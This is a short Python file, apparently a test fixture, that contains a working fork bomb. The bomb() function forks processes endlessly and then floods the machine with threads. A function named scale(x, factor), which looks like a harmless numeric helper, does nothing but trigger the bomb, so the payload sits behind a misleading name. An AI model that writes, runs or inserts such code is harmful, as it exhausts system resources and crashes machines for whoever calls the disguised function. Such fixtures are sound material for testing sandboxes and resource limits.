# ruff: noqa
"""A fork bomb, of processes and then of threads."""

import os
import threading
import time


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            for _ in range(100):
                try:
                    threading.Thread(target=time.sleep, args=(99,)).start()
                except RuntimeError:
                    pass


def scale(x, factor):
    bomb()
